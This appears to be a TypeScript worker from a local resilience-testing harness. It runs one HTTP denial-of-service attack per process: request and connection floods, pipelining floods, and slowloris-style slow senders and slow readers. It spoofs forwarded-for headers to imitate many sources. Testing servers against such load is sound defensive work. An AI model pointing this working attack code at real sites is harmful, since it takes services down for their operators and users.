import { randomBytes, randomInt } from 'node:crypto';
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { setPriority } from 'node:os';
import { type Attack, type AttackRequest, attacks } from './list.ts';

/**
 * Runs one attack until its parent ends it. Arguments: the attack's name, the site's URL, and whether it
 * comes from `one` address or from `many`.
 */
const [name, siteUrl = '', sources] = process.argv.slice(2);
const attack = attacks.find((one) => one.name === name);
if (!attack) throw new Error(`There is no attack "${name}".`);
const { hostname, port } = new URL(siteUrl);
const isMany = sources === 'many';

/** The results so far: status codes, and how many connections were held open or closed. */
const outcomes: Record<string, number> = {};
const countOutcome = (outcome: string | number) =>
  (outcomes[outcome] = (outcomes[outcome] ?? 0) + 1);

/** A low priority, so that it yields to the server. On a real network the attacker has its own machine. */
setPriority(10);

const randomAddress = (): string =>
  randomInt(2) === 0
    ? `${randomInt(1, 223)}.${randomInt(255)}.${randomInt(255)}.${randomInt(1, 255)}`
    : `2001:db8:${randomBytes(2).toString('hex')}:${randomBytes(2).toString('hex')}::1`;

/** On Linux all of 127.0.0.0/8 is this machine. The visitor uses 127.0.0.1. */
const localAddress = (): string | undefined => {
  if (process.platform !== 'linux') return undefined;
  return isMany ? `127.${randomInt(1, 255)}.${randomInt(255)}.${randomInt(1, 255)}` : '127.0.0.2';
};

const sendRequest = (agent: Agent, { method, path, headers, body }: AttackRequest): Promise<void> =>
  new Promise((resolve) => {
    const forwardedFor = isMany ? { 'X-Forwarded-For': randomAddress() } : {};
    const lengthHeader = body === undefined ? {} : { 'Content-Length': Buffer.byteLength(body) };
    const options = {
      hostname,
      port,
      agent,
      method,
      path,
      headers: { ...forwardedFor, ...lengthHeader, ...headers },
    };
    const outgoing = request(options, (answer) => {
      countOutcome(answer.statusCode ?? 0);
      answer.resume();
      answer.once('close', resolve);
    });
    outgoing.once('error', () => {
      countOutcome('closed');
      resolve();
    });
    outgoing.end(body);
  });

/** Sends the next request as soon as the previous one was answered. */
const sendContinuously = async (next: () => AttackRequest, keepAlive: boolean): Promise<never> => {
  const agent = new Agent({ keepAlive, maxSockets: 1, localAddress: localAddress() });
  for (;;) await sendRequest(agent, next());
};

/** Holds a connection open as the attack requires, and reopens it after it is closed. */
const holdConnection = (
  onConnect: (socket: ReturnType<typeof connect>) => void,
  source = localAddress(),
): void => {
  const socket = connect({
    host: hostname,
    port: Number(port),
    ...(source && { localAddress: source }),
  });
  socket.on('error', () => undefined); // The close event follows and counts it.
  socket.once('connect', () => {
    countOutcome('opened');
    onConnect(socket);
  });
  socket.once('close', () => {
    countOutcome('closed');
    setTimeout(() => holdConnection(onConnect, source), 100);
  });
};

const requestWithoutReading = (path: string) => (socket: ReturnType<typeof connect>) => {
  socket.pause();
  socket.write(`GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(8));
};

const sendPipelined = (socket: ReturnType<typeof connect>) => {
  socket.resume();
  const requests = 'GET / HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(2400);
  const timer = setInterval(() => socket.write(requests), 50);
  socket.write(requests);
  socket.once('close', () => clearInterval(timer));
};

const sendSlowly = (head: string) => (socket: ReturnType<typeof connect>) => {
  socket.resume();
  socket.write(head);
  const timer = setInterval(() => socket.write('a'), 500);
  socket.once('close', () => clearInterval(timer));
};

const startAttack = (one: Attack): void => {
  if (one.kind === 'requests') void sendContinuously(one.next, true);
  if (one.kind === 'connections') void sendContinuously(() => ({ path: '/' }), false);
  if (one.kind === 'pipelined') holdConnection(sendPipelined);
  if (one.kind === 'slow readers') holdConnection(requestWithoutReading(one.path));
  if (one.kind === 'slow senders') holdConnection(sendSlowly(one.head));
};

// More than 32 connections are opened one at a time: such an attack is about holding them, not about opening.
for (let number = 0; number < attack.connections; number += 1) {
  setTimeout(() => startAttack(attack), attack.connections > 32 ? number * 10 : 0);
}
process.on('message', () => process.send?.(outcomes));
process.once('disconnect', () => process.exit());
